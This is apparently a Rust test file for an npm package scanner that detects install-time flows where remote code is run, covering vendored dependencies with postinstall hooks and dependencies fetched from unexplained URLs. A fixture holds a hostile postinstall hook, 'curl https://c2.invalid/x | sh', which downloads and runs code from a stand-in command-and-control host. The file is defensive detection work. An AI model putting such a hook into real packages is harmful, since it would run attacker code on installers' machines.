use crate::flow::testing::found;
use crate::unpack::text_file;
use customs_model::{SinkKind, SourceKind, Zone};

/// Whether what a package in the package downloads is run when the outer one is installed.
fn runs(from: &str, inner: &str) -> bool {
    let manifest = format!(
        r#"{{"name": "a", "version": "1.0.0", "dependencies": {{"b": "{from}", "c": "^1.0.0"}}}}"#
    );
    let hook = r#"{"name": "b", "scripts": {"postinstall": "curl https://c2.invalid/x | sh"}}"#;
    let found = found(vec![
        text_file("package/package.json", &manifest),
        text_file("package/index.js", "module.exports = require('b');"),
        text_file(&format!("package/{inner}"), hook),
    ]);
    found.flows.iter().any(|flow| {
        flow.source == SourceKind::Remote
            && flow.sink == SinkKind::Process
            && flow.zone == Zone::Install
    })
}

#[test]
fn the_hooks_of_a_dependency_that_lies_in_the_package_run_when_it_is_installed() {
    assert!(runs("file:vendor/b", "vendor/b/package.json"));
    assert!(runs("link:./vendor/b", "vendor/b/package.json"));
    assert!(runs("./vendor/b", "vendor/b/package.json"));
    // What is named as one only lies there, and so does what nobody depends on.
    assert!(!runs("^1.0.0", "vendor/b/package.json"));
    assert!(!runs("file:vendor/c", "vendor/b/package.json"));
    // The package itself.
    assert!(!runs("file:.", "vendor/b/package.json"));
}

/// Where a dependency is fetched from that nothing of the package asks for.
fn fetched(from: &str, code: &str) -> Option<String> {
    let manifest =
        format!(r#"{{"name": "a", "version": "1.0.0", "dependencies": {{"b-c": "{from}"}}}}"#);
    let found = found(vec![
        text_file("package/package.json", &manifest),
        text_file("package/README.md", "b-c"),
        text_file("package/index.js", code),
    ]);
    let mut flows = found.flows.into_iter();
    let flow = flows.find(|flow| flow.sink == SinkKind::Process)?;
    assert_eq!(
        (flow.source, flow.zone),
        (SourceKind::Remote, Zone::Install)
    );
    Some(flow.source_name)
}

#[test]
fn a_dependency_from_an_address_that_nothing_asks_for_is_there_for_what_it_runs() {
    let from = "http://packages.c2.invalid/npm/unused-imports";
    let host = "the answer of packages.c2.invalid";
    assert_eq!(fetched(from, "module.exports = 1;").as_deref(), Some(host));
    // A library that its maker gives out so, and repositories.
    assert_eq!(fetched(from, "module.exports = require('b-c');"), None);
    for from in [
        "^1.0.0",
        "git+https://git.c2.invalid/b.git",
        "https://github.com/b/c/archive/v1.tar.gz",
        "https://codeload.github.com/b/c/tar.gz/v1",
    ] {
        assert_eq!(fetched(from, "module.exports = 1;"), None, "{from}");
    }
}
